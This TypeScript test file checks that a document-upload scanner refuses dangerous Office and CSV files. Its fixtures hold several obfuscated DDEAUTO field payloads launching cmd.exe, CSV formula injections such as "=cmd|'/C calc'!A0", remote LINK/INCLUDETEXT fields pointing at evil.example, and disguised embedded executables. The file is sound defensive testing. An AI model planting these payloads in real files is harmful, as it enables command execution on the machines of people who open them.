import { describe, expect, test } from 'vitest'
import { fileProblem } from '../records/file-name.ts'
import { compound, excel, oldDocument, oldWorkbook, vbaProject, word } from './documents-testing.ts'
import { inspectContent } from './inspect.ts'
import { inspectCompound } from './inspect-compound.ts'

const problemOf = async (name: string, content: Buffer) =>
  fileProblem(name, await inspectContent(content))?.code ?? null

const part = (inside: string) =>
  `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inside}</w:p></w:body></w:document>`
const run = (inside: string) => `<w:r>${inside}</w:r>`
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
const pieces = (...texts: string[]) =>
  texts.map((text) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)).join('')
const field = (instruction: string, result = '') =>
  mark('begin') + instruction + mark('separate') + run(`<w:t>${result}</w:t>`) + mark('end')

const command = ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
const wide = (content: string) => Buffer.from(`\ufeff${content}`, 'utf16le')

describe('a field that starts a program is refused', () => {
  test.each([
    ['whole', field(pieces(`DDEAUTO${command}`))],
    ['of the kind that waits for a click', field(pieces(`dde${command}`))],
    ['in pieces', field(pieces(' D', 'DE', 'AU', `TO${command}`))],
    ['with a comment inside', field(pieces(`DD<!-- a -->EAUTO${command}`))],
    ['in a section of its own', field(pieces('<![CDATA[DDEAUTO]]> a b'))],
    ['with a letter as an entity', field(pieces(`&#68;DEAUTO${command}`))],
    [
      'with its first letters from another field',
      field(field(pieces('QUOTE "DDE"'), 'DDE') + pieces(command)),
    ],
    ['inside another field', field(pieces('IF 1 = 1 ') + field(pieces(`DDEAUTO${command}`)))],
    ['without an end', mark('begin') + pieces('DDE', 'AUTO a b')],
    ['without a beginning', pieces('DDE', 'AUTO a b')],
    ['as a simple field', `<w:fldSimple w:instr="DDEAUTO${command.replaceAll('"', '&quot;')}"/>`],
    ['struck out', field('<w:r><w:delInstrText>DDEAUTO a b</w:delInstrText></w:r>')],
  ])('%s', async (_how, inside) => {
    for (const where of ['word/document.xml', 'word/header1.xml', 'word/footer2.xml', 'word/x.bin'])
      expect(await problemOf('letter.docx', await word({ [where]: part(inside) }))).toBe('FILE_PROGRAM')
    expect(await problemOf('letter.docx', await word({ 'word/header1.xml': wide(part(inside)) }))).toBe(
      'FILE_PROGRAM',
    )
    const inner = await word({ 'word/footnotes.xml': part(inside) })
    expect(await problemOf('sheet.xlsx', await excel({ 'xl/embeddings/a.docx': inner }))).toBe('FILE_PROGRAM')
  })

  test('in a part that is too long to be read as well', async () => {
    const far = part(`${'<w:p/>'.repeat(6_000_000)}${field(pieces('DDEAUTO a b'))}`)
    const noise = Buffer.from(Array.from({ length: 400_000 }, (_, at) => (at * 7919) % 251))
    const file = await word({ 'word/document.xml': far, 'word/media/a.png': noise })
    expect(await problemOf('letter.docx', file)).toBe('FILE_BROKEN')
  })

  test.each([
    ['LINK Excel.Sheet.8 "https://evil.example/a.xls" "" \\a', 'FILE_REMOTE'],
    ['INCLUDETEXT "\\\\evil.example@SSL\\a.docx"', 'FILE_REMOTE'],
    ['LINK Excel.Sheet.12 "C:\\\\Loans\\\\Budget.xlsx" "Sheet1!R1C1" \\a', null],
    ['PAGE', null],
    ['HYPERLINK "https://rd.usda.gov"', null],
    ['MERGEFIELD Ddeauto', null],
    ['REF _Ref1 \\h', null],
  ])('%s', async (instruction, code) => {
    expect(
      await problemOf('letter.docx', await word({ 'word/document.xml': part(field(pieces(instruction))) })),
    ).toBe(code)
  })

  test.each([
    ['in one byte a sign', Buffer.from('Dear Ada \x13 DDEAUTO cmd "/k calc" \x14 x\x15', 'latin1')],
    ['in two bytes a sign', Buffer.from('Dear Ada \x13DDE cmd "/k calc" \x14 x\x15', 'utf16le')],
    ['at an odd place', Buffer.concat([Buffer.from('a'), Buffer.from('\x13DDE cmd x\x15', 'utf16le')])],
  ])('in an old document %s', async (_how, text) => {
    const body = Buffer.concat([Buffer.alloc(4096), text])
    expect(await problemOf('letter.doc', await compound({ '/WordDocument': body }))).toBe('FILE_PROGRAM')
    const nested = await oldDocument({ '/ObjectPool/_1/WordDocument': body })
    expect(await problemOf('letter.doc', nested)).toBe('FILE_PROGRAM')
    const page = Buffer.concat([
      Buffer.alloc(4096),
      Buffer.from('About dde auto \x13 PAGE \x14 1\x15', 'latin1'),
    ])
    expect(await problemOf('letter.doc', await compound({ '/WordDocument': page }))).toBeNull()
  })
})

describe('a workbook that asks another program is refused', () => {
  const links = (inside: string) => `<externalLink xmlns:r="r">${inside}</externalLink>`

  test('as a link of its own', async () => {
    const asks = links('<x:ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></x:ddeLink>')
    for (const content of [asks, wide(asks)])
      expect(
        await problemOf('sheet.xlsx', await excel({ 'xl/externalLinks/externalLink1.xml': content })),
      ).toBe('FILE_PROGRAM')
    const other = links('<externalBook r:id="rId1"/><!-- <ddeLink/> -->')
    expect(
      await problemOf('sheet.xlsx', await excel({ 'xl/externalLinks/externalLink1.xml': other })),
    ).toBeNull()
  })

  const record = (type: number, body: Buffer) => {
    const head = Buffer.alloc(4)
    head.writeUInt16LE(type, 0)
    head.writeUInt16LE(body.length, 2)
    return Buffer.concat([head, body])
  }
  const book = (path: string) =>
    record(0x1ae, Buffer.concat([Buffer.from([0, 0, path.length, 0, 0]), Buffer.from(path, 'latin1')]))
  const name = (flags: number) => record(0x23, Buffer.from([flags, 0, 0, 0, 0, 0]))
  const withRecords = async (...records: Buffer[]) => {
    const globals = Buffer.concat([
      Buffer.from([9, 8, 4, 0, 0, 6, 5, 0]),
      ...records,
      Buffer.from([10, 0, 0, 0]),
    ])
    return problemOf('old.xls', await compound({ '/Workbook': globals }))
  }

  test('of the old kind', async () => {
    expect(await withRecords(book('cmd\x03/c calc'))).toBe('FILE_PROGRAM')
    expect(await withRecords(book('cmd\x03/c calc'), name(0))).toBe('FILE_PROGRAM')
    expect(await withRecords(book('Word.Document.8\x03C:\\a.doc'), name(0x10), name(0))).toBe('FILE_PROGRAM')
    expect(await withRecords(book('Word.Document.8\x03C:\\a.doc'), name(0x10))).toBeNull()
    expect(await withRecords(book('\x01\x01C\x03Loans\x03Budget.xls'), name(0))).toBeNull()
    const oldest = record(0x17, Buffer.from('\x0ccmd\x03/c calc', 'latin1'))
    expect(await problemOf('old.xls', await compound({ '/Book': oldest }))).toBe('FILE_PROGRAM')
  })

  test.each([
    ["=cmd|'/C calc'!A0\n", 'FILE_PROGRAM'],
    ['name,amount\nAda,"@SUM(1+1)*cmd|\' /C calc\'!A0"\n', 'FILE_PROGRAM'],
    ["Ada;-2+3+cmd|'/C calc'!D2", 'FILE_PROGRAM'],
    ["- wages | fees!\n+1 (406) 555 0100,it's fine!\n", null],
    ['=SUM(A1:A9)\n', null],
  ])('as text: %j', async (text, code) => {
    expect(await problemOf('list.csv', Buffer.from(text))).toBe(code)
    expect(await problemOf('list.csv', wide(text))).toBe(code)
  })
})

describe('files put into a document', () => {
  /** As the packager of Windows writes it. */
  const packaged = (name: string, content: Buffer) => {
    const text = (value: string) => Buffer.from(`${value}\0`, 'latin1')
    const number = (value: number) => {
      const bytes = Buffer.alloc(4)
      bytes.writeUInt32LE(value)
      return bytes
    }
    const path = text(`C:\\Temp\\${name}`)
    const inside = [
      Buffer.from([2, 0]),
      text(name),
      path,
      Buffer.from([0, 0, 3, 0]),
      number(path.length),
      path,
    ]
    const all = Buffer.concat([...inside, number(content.length), content])
    return Buffer.concat([number(all.length), all])
  }
  const places: Readonly<
    Record<string, (name: string, native: Buffer) => Promise<readonly [string, Buffer]>>
  > = {
    'an old document': async (name, native) => [
      'a.doc',
      await oldDocument({ [`/ObjectPool/_1/${name}`]: native }),
    ],
    'an old workbook': async (name, native) => ['a.xls', await oldWorkbook({ [`/MBD0001/${name}`]: native })],
    'a newer document': async (name, native) => [
      'a.docx',
      await word({ 'word/embeddings/oleObject1.bin': await compound({ [`/${name}`]: native }) }),
    ],
    'a newer workbook, elsewhere': async (name, native) => [
      'a.xlsx',
      await excel({ 'xl/media/image1.png': await compound({ [`/${name}`]: native }) }),
    ],
  }

  test.each(Object.keys(places))('in %s: a program is refused, all else is said', async (place) => {
    const findingOf = async (stream: string, native: Buffer) => {
      const [name, file] = (await places[place]?.(stream, native)) ?? ['', Buffer.alloc(0)]
      // A small old file with an archive inside is one of two kinds, told as such before anybody looks into it.
      const finding = await (/\.(?:doc|xls)$/.test(name) ? inspectCompound : inspectContent)(file)
      return fileProblem(name, finding)?.code ?? finding.caution
    }
    for (const stream of ['\x01Ole10Native', 'Ole10Native', '\x01OLE10NATIVE']) {
      expect(await findingOf(stream, packaged('setup.exe', Buffer.from('x')))).toBe('FILE_PROGRAM')
      expect(await findingOf(stream, packaged('plan.pdf', Buffer.from('MZ\x90\0')))).toBe('FILE_PROGRAM')
      expect(await findingOf(stream, packaged('Invoice.pdf.js', Buffer.from('x')))).toBe('FILE_PROGRAM')
      expect(await findingOf(stream, packaged('plan.pdf', Buffer.from('%PDF-1.7')))).toBe('actions')
      expect(await findingOf(stream, Buffer.from('\x04\0\0\0BM..', 'latin1'))).toBe('actions')
      const harmful = await word({ 'word/vbaProject.bin': 'x' })
      expect(await findingOf(stream, packaged('a.docx', harmful))).toBe('FILE_MACROS')
      const old = await oldDocument(vbaProject('/Macros'))
      expect(await findingOf(stream, packaged('a.doc', old))).toBe('FILE_MACROS')
      expect(await findingOf(stream, packaged('a.docx', await word()))).toBe('actions')
    }
  })

  test.each([
    ['word/embeddings/setup.exe', Buffer.from('x'), 'FILE_PROGRAM'],
    ['word/embeddings/oleObject1.bin', Buffer.from('MZ\x90\0'), 'FILE_PROGRAM'],
    ['word/media/start.vbs', Buffer.from('x'), 'FILE_PROGRAM'],
    ['word/embeddings/oleObject1.bin', Buffer.from('a picture'), 'actions'],
    ['word/activeX/activeX1.xml', Buffer.from('<ax:ocx/>'), 'actions'],
    ['word/media/image1.png', Buffer.from('a picture'), null],
  ])('as a part of its own: %s', async (name, content, expected) => {
    const finding = await inspectContent(await word({ [name]: content }))
    expect(fileProblem('a.docx', finding)?.code ?? finding.caution).toBe(expected)
  })

  test('an innocent document inside gives no reason to be careful', async () => {
    const file = await word({ 'word/embeddings/sheet.xlsx': await excel() })
    expect(await inspectContent(file)).toEqual({ kind: 'docx', flaw: null, caution: null })
  })
})
